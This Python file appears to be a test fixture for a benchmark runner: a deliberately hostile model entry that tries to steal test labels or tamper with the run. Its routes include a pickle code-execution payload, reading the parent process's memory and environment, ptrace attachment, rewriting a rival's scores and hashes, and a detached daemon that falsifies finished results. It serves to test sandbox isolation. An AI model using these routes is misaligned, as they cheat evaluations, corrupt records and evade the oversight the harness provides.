"""A hostile registry entry, as any contributor could write one; its id names its route.

``hostile-<route>`` tries one way to learn the test labels or to tamper with the run, in
``fit``, then prints one line ``HOSTILE {json}`` (the runner copies the model's output to
``logs/<unit>.log``): ``{"route", "ok": did the route work, "labels": 0, "detail"}``;
``predict`` predicts the labels it found with certainty (0.5 otherwise) and prints the line
again with ``labels``, the number of images it predicted from stolen labels.
It never raises: a failed attempt is recorded, and the model still predicts.

Routes: pickle, proc-parent, proc-mem, crawl, units, tamper, daemon, registry-write, network,
signal, ptrace, fds, scratch, shm. ``PORT`` is filled in by the tests (their listening port).
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import gc
import json
import os
import signal
import socket
import stat
import sys
import time
from pathlib import Path

import numpy as np

ROUTE = Path(__file__).resolve().parent.name.removeprefix("hostile-")
PORT = 0  # replaced by the tests
TARGET = "diagnosis"
MARKER = "brainbench-hostile-daemon"
MAX_ENTRIES = 20000


# -- helpers -----------------------------------------------------------------------------------
def labels_from_table(path: Path) -> dict[str, str]:
    """subject -> diagnosis from a participants.tsv (or any table with both columns)."""
    import pandas as pd

    try:
        if path.suffix == ".parquet":
            df = pd.read_parquet(path)
            subject = "subject"
            target = "y_true" if "y_true" in df.columns else TARGET
        else:
            df = pd.read_csv(path, sep="\t", dtype=str)
            subject, target = "participant_id", TARGET
        return {str(s): str(v) for s, v in zip(df[subject], df[target], strict=True) if v == v}
    except Exception:
        return {}


def walk(roots: list[Path], names: tuple[str, ...], suffix: str | None = None) -> list[Path]:
    """Files called ``names`` (or ending in ``suffix`` under a ``units`` folder) below roots."""
    found: list[Path] = []
    seen = 0
    for root in roots:
        for folder, dirs, files in os.walk(root, onerror=lambda e: None):
            seen += len(files) + len(dirs)
            if seen > MAX_ENTRIES:
                return found
            dirs[:] = [d for d in dirs if not d.startswith(".") and d != "__pycache__"]
            for f in files:
                if f in names or (
                    suffix and f.endswith(suffix) and os.path.basename(folder) == "units"
                ):
                    path = Path(folder) / f
                    # Regular files only: other tests leave FIFOs named participants.tsv in
                    # /tmp, and opening one blocks for ever.
                    with contextlib.suppress(OSError):
                        if stat.S_ISREG(os.lstat(path).st_mode):
                            found.append(path)
        if found:
            return found
    return found


def ancestors(*starts: str) -> list[Path]:
    out: list[Path] = []
    for start in starts:
        p = Path(start).resolve()
        for a in [p, *p.parents][1:5]:
            if a not in out and str(a) != "/":
                out.append(a)
    return out


def find_run_dirs() -> list[Path]:
    """Run folders in progress (not finalised yet) near this file, the cwd or in /tmp."""
    roots = [*ancestors(__file__, os.getcwd()), Path("/tmp")]
    runs = [p.parent for p in walk(roots, ("plan.json",))]
    return [r for r in runs if not (r / "provenance.json").exists()]


# -- the routes --------------------------------------------------------------------------------
class Evil:
    """Build a pickle whose loading runs code in the process that unpickles it."""

    def __reduce__(self):
        return (exec, ("import os; os.environ['BRAINBENCH_PWNED'] = 'runner code execution'",))


def route_pickle(found: dict) -> None:
    import pickle

    payload = pickle.dumps(Evil())
    found["detail"]["payload"] = base64.b64encode(payload).decode()
    socks = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
    conns = [o for o in gc.get_objects() if type(o).__name__ == "Connection"]
    found["detail"]["sockets"] = len(socks) + len(conns)
    found["ok"] = bool(socks or conns)
    print("HOSTILE " + json.dumps(found), flush=True)  # the runner may stop us at once
    for c in conns:  # a multiprocessing Connection: its send() frames a pickle for us
        with contextlib.suppress(Exception):
            c.send_bytes(payload)
    for s in socks:  # a raw socket: frame it as multiprocessing does (4-byte length)
        with contextlib.suppress(Exception):
            s.sendall(len(payload).to_bytes(4, "big") + payload)


def route_proc_parent(found: dict) -> dict[str, str]:
    ppid = os.getppid()
    paths: set[str] = set()
    for name in ("environ", "cmdline"):
        try:
            raw = Path(f"/proc/{ppid}/{name}").read_bytes()
            found["detail"][name] = True
            for item in raw.split(b"\0"):
                text = item.decode(errors="replace")
                paths.update(p for p in text.split("=", 1)[-1].split(":") if p.startswith("/"))
        except OSError as exc:
            found["detail"][name] = str(exc)
    try:
        paths.add(os.readlink(f"/proc/{ppid}/cwd"))
        found["detail"]["cwd"] = True
    except OSError as exc:
        found["detail"]["cwd"] = str(exc)
    found["ok"] = any(v is True for v in found["detail"].values())
    roots = [Path(p) for p in sorted(paths) if os.path.isdir(p) and p not in ("/", "/tmp")]
    labels: dict[str, str] = {}
    for f in walk(roots, ("participants.tsv",)):
        labels.update(labels_from_table(f))
    return labels


def route_proc_mem(found: dict) -> None:
    ppid = os.getppid()
    total = 0
    hits = 0
    try:
        maps = Path(f"/proc/{ppid}/maps").read_text().splitlines()
        with open(f"/proc/{ppid}/mem", "rb") as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if not perms.startswith("rw") or total > 256 << 20:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    mem.seek(lo)
                    chunk = mem.read(min(hi - lo, 64 << 20))
                    total += len(chunk)
                    hits += chunk.count(b"participant_id") + chunk.count(b"diagnosis")
    except OSError as exc:
        found["detail"]["error"] = str(exc)
    found["detail"].update(bytes=total, hits=hits)
    found["ok"] = total > 0


def route_crawl(found: dict) -> dict[str, str]:
    roots = [*ancestors(__file__, os.getcwd()), Path("/tmp")]
    labels: dict[str, str] = {}
    files = walk(roots, ("participants.tsv",))
    for f in files:
        labels.update(labels_from_table(f))
    found["detail"]["files"] = len(files)
    found["ok"] = bool(files)
    return labels


def route_units(found: dict) -> dict[str, str]:
    roots = [*ancestors(__file__, os.getcwd()), Path("/tmp")]
    labels: dict[str, str] = {}
    files = [f for f in walk(roots, (), ".parquet") if not f.name.startswith("hostile")]
    for f in files:
        labels.update(labels_from_table(f))
    found["detail"]["files"] = len(files)
    found["ok"] = bool(labels)
    return labels


def route_tamper(found: dict) -> None:
    import hashlib

    import pandas as pd

    for run in find_run_dirs():
        for meta in sorted((run / "units").glob("victim__*.json")):
            parquet = meta.with_suffix(".parquet")
            try:
                df = pd.read_parquet(parquet)
                df["score"] = 1.0 - df["score"]  # the victim now looks worse
                df.to_parquet(parquet, index=False)
                record = json.loads(meta.read_text())
                record["output_sha256"] = hashlib.sha256(parquet.read_bytes()).hexdigest()
                meta.write_text(json.dumps(record))
                found["ok"] = True
                found["detail"].setdefault("changed", []).append(str(parquet))
            except Exception as exc:
                found["detail"]["error"] = f"{type(exc).__name__}: {exc}"


DAEMON = r"""
import hashlib, json, sys, time
from pathlib import Path
import pandas as pd
run = Path(sys.argv[1])
prov = run / "provenance.json"
start = time.time()
while time.time() - start < 120:
    time.sleep(0.2)
    try:
        if prov.stat().st_mtime < start:
            continue
        p = json.loads(prov.read_text())
        df = pd.read_parquet(run / "predictions.parquet")
    except Exception:
        continue
    mine = df["model"] == "hostile-daemon"
    df.loc[mine, "score_AD"] = (df.loc[mine, "y_true"] == "AD").astype(float)
    df.loc[mine, "score_CN"] = 1.0 - df.loc[mine, "score_AD"]
    df.loc[mine, "score"] = df.loc[mine, "score_AD"]
    df.to_parquet(run / "predictions.parquet", index=False)
    data = (run / "predictions.parquet").read_bytes()
    p["predictions_sha256"] = hashlib.sha256(data).hexdigest()
    prov.write_text(json.dumps(p))
    break
"""


def route_daemon(found: dict) -> None:
    runs = find_run_dirs()
    target = str(runs[0]) if runs else "/nonexistent"
    found["detail"]["run"] = target
    if os.fork() == 0:  # double fork, new session: detached from the model process
        os.setsid()
        if os.fork() == 0:
            with contextlib.suppress(Exception):
                os.execv(sys.executable, [sys.executable, "-c", DAEMON, target, MARKER])
            os._exit(0)
        os._exit(0)
    time.sleep(0.2)
    found["ok"] = True


def route_registry_write(found: dict) -> None:
    victim = Path(__file__).resolve().parent.parent / "victim"
    try:
        (victim / "pwned.txt").write_text("written by hostile-registry-write\n")
        found["ok"] = True
    except OSError as exc:
        found["detail"]["error"] = str(exc)


def route_network(found: dict) -> None:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"labels please")
        found["detail"]["tcp"] = True
    except OSError as exc:
        found["detail"]["tcp"] = str(exc)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"labels please", ("127.0.0.1", PORT))
        found["detail"]["udp"] = True
    except OSError as exc:
        found["detail"]["udp"] = str(exc)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(f"\0brainbench-test-{PORT}")
            s.sendall(b"labels please")
        found["detail"]["abstract"] = True
    except OSError as exc:
        found["detail"]["abstract"] = str(exc)
    found["ok"] = any(v is True for v in found["detail"].values())


def route_signal(found: dict) -> None:
    ppid = os.getppid()
    found["detail"]["ppid"] = ppid
    if ppid <= 1:
        found["detail"]["error"] = "no parent process visible"
        return
    try:
        os.kill(ppid, signal.SIGUSR2)
        found["ok"] = True
    except OSError as exc:
        found["detail"]["error"] = str(exc)


def route_ptrace(found: dict) -> None:
    ppid = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if ppid > 1 and libc.ptrace(0x4206, ppid, None, None) == 0:  # PTRACE_SEIZE: no stop
        found["ok"] = True
    else:
        found["detail"]["error"] = os.strerror(ctypes.get_errno()) if ppid > 1 else "no parent"


def route_fds(found: dict) -> dict[str, str]:
    labels: dict[str, str] = {}
    fds = sorted(int(n) for n in os.listdir("/proc/self/fd")) if os.path.isdir("/proc") else []
    found["detail"]["fds"] = len(fds)
    for fd in fds:
        with contextlib.suppress(OSError, ValueError):
            if not stat.S_ISREG(os.stat(f"/proc/self/fd/{fd}").st_mode):
                continue  # a pipe or a socket would block
            with open(f"/proc/self/fd/{fd}", "rb") as fh:
                data = fh.read(1 << 20)
            if b"participant_id" in data and TARGET.encode() in data:
                import io

                import pandas as pd

                df = pd.read_csv(io.BytesIO(data), sep="\t", dtype=str)
                labels.update(zip(df["participant_id"], df[TARGET], strict=True))
    found["ok"] = bool(labels)
    return labels


def route_scratch(found: dict) -> None:
    block = b"\0" * (1 << 20)
    written = 0
    try:
        with open("huge.bin", "wb") as fh:
            for _ in range(64):
                fh.write(block)
                fh.flush()
                written += len(block)
    except OSError as exc:
        found["detail"]["error"] = str(exc)
    found["detail"]["bytes"] = written
    found["ok"] = written >= 64 << 20


def route_shm(found: dict) -> None:
    try:
        Path(f"/dev/shm/brainbench-hostile-{PORT}").write_text("a channel to the next unit\n")
        found["ok"] = True
    except OSError as exc:
        found["detail"]["error"] = str(exc)


ROUTES = {
    "pickle": route_pickle,
    "proc-parent": route_proc_parent,
    "proc-mem": route_proc_mem,
    "crawl": route_crawl,
    "units": route_units,
    "tamper": route_tamper,
    "daemon": route_daemon,
    "registry-write": route_registry_write,
    "network": route_network,
    "signal": route_signal,
    "ptrace": route_ptrace,
    "fds": route_fds,
    "scratch": route_scratch,
    "shm": route_shm,
}


class Hostile:
    def __init__(self, task):
        self.task = task
        self.found = {"route": ROUTE, "ok": False, "labels": 0, "detail": {}}
        self.stolen: dict[str, str] = {}

    def fit(self, train, validation, ctx):
        try:
            self.stolen = ROUTES[ROUTE](self.found) or {}
        except Exception as exc:
            self.found["detail"]["exception"] = f"{type(exc).__name__}: {exc}"
        print("HOSTILE " + json.dumps(self.found, default=str), flush=True)

    def predict(self, inputs):
        n, k = len(inputs), max(self.task.n_classes, 1)
        out = np.full((n, k), 1.0 / k)
        classes = list(self.task.classes)
        subjects = inputs.covariates["subject"].astype(str).tolist()
        for i, s in enumerate(subjects):
            label = self.stolen.get(s)
            if label in classes:
                out[i] = 0.0
                out[i, classes.index(label)] = 1.0
                self.found["labels"] += 1
        print("HOSTILE " + json.dumps(self.found, default=str), flush=True)
        return out


def build(task, hyperparameters):
    return Hostile(task)
